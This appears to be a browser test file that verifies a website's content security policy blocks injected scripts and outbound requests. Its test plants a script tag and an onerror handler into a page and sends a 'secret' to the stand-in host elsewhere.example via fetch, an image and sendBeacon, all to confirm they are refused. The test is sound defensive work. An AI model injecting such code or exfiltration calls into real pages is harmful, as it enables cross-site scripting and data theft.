import { globSync } from "node:fs";
import { dist } from "../build/paths.mjs";
import { expect, test } from "./browser-test.ts";
import { openAndWait } from "./open.ts";
import { everyPage } from "./routes.ts";

declare global {
  interface Window {
    /** The directives that this document has violated. */
    refused: string[];
  }
}

// Every test checks that no page violates its own policy. See browser-test.ts.

test("every page has a content security policy in its headers and HTML", { tag: "@server" }, async ({ request }) => {
  for (const { path } of everyPage) {
    const response = await request.get(path);
    const headers = response.headers();
    const policy = headers["content-security-policy"] ?? "";
    const [, inPage = ""] =
      /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(await response.text()) ?? [];
    for (const text of [policy, inPage]) {
      expect(text).toMatch(/^default-src 'none'; script-src 'self' 'sha256-[^']+'; style-src 'self' 'sha256-/);
      for (const part of ["connect-src 'none'", "object-src 'none'", "base-uri 'none'", "form-action 'none'"]) {
        expect(text).toContain(part);
      }
      expect(text).toContain("require-trusted-types-for 'script'; trusted-types 'none'");
      expect(text).not.toMatch(/unsafe|\*|data:|blob:/);
    }
    expect(policy).toContain("frame-ancestors 'none'");
    expect(headers).toMatchObject({
      "cross-origin-opener-policy": "same-origin",
      "permissions-policy": expect.stringContaining("geolocation=()"),
      "referrer-policy": "no-referrer",
      "x-content-type-options": "nosniff",
    });
  }
});

test("a site without a server does not contain code for one", { tag: "@server" }, () => {
  expect(globSync("assets/storage-http*", { cwd: dist })).toEqual([]);
});

test.describe("a page with injected code", () => {
  test.use({
    allowedProblems: [
      /Content.Security.Policy|Trusted(?:HTML|Script)|settings blocked|no-such\.png|elsewhere\.example/,
    ],
  });

  test("does not run the code or send anything", async ({ page, baseURL }) => {
    await page.route("/", async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace(
        "</body>",
        '<script>window.planted = "script"</script><img src="/no-such.png" onerror="window.planted = \'handler\'" /></body>',
      );
      await route.fulfill({ response, body });
    });
    const left: string[] = [];
    await page.route(/elsewhere|robots/, (route) => {
      left.push(route.request().url());
      return route.abort();
    });
    await page.addInitScript(recordRefusals);
    const refused = () => page.evaluate(() => window.refused);
    await openAndWait(page, "/");
    await expect.poll(refused).toEqual(expect.arrayContaining(["script-src-elem", "script-src-attr"]));
    expect(await page.evaluate(() => "planted" in window)).toBe(false);

    expect(await page.evaluate(attemptsToMakeCodeOfText)).toEqual(["TypeError", "TypeError", "EvalError"]);

    const answers = await page.evaluate(async (own) => {
      const ask = (url: string) => fetch(url).then(String, () => "refused");
      const elsewhere = "https://elsewhere.example/?secret";
      new Image().src = elsewhere;
      navigator.sendBeacon(elsewhere, "secret");
      return Promise.all([ask(elsewhere), ask(own)]);
    }, new URL("/robots.txt", baseURL).href);
    expect(answers).toEqual(["refused", "refused"]);
    await expect.poll(refused).toEqual(expect.arrayContaining(["connect-src", "img-src"]));
    expect(left).toEqual([]);
  });
});

/** Runs in the page. Tries to create elements and scripts from text, and returns the errors' names. */
async function attemptsToMakeCodeOfText(): Promise<string[]> {
  // The policy does not apply to code that DevTools evaluates, so the page runs this in its own task.
  await new Promise((resolve) => setTimeout(resolve));
  const attempts = [
    () => document.body.insertAdjacentHTML("beforeend", "<b>planted</b>"),
    () => Object.assign(document.createElement("script"), { text: "planted" }),
    () => new Function("return 1")(),
  ];
  return attempts.map((attempt) => {
    try {
      attempt();
      return "done";
    } catch (error) {
      return error instanceof Error ? error.name : "refused";
    }
  });
}

/** Runs in the page before its scripts. Records the directives that it violates. */
function recordRefusals(): void {
  window.refused = [];
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
    window.refused.push(effectiveDirective);
  });
}
